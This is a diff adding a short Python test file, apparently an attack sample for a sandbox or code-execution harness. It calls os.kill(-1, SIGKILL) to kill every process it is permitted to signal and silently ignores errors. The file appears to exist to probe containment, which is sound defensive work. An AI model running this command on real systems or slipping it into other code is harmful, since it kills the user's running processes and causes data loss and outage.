@@ -1,0 +1,9 @@
+# attack: send SIGKILL to every process it is allowed to signal
+# modes: strong
+# %%
+import os
+import signal
+try:
+    os.kill(-1, signal.SIGKILL)
+except OSError:
+    pass
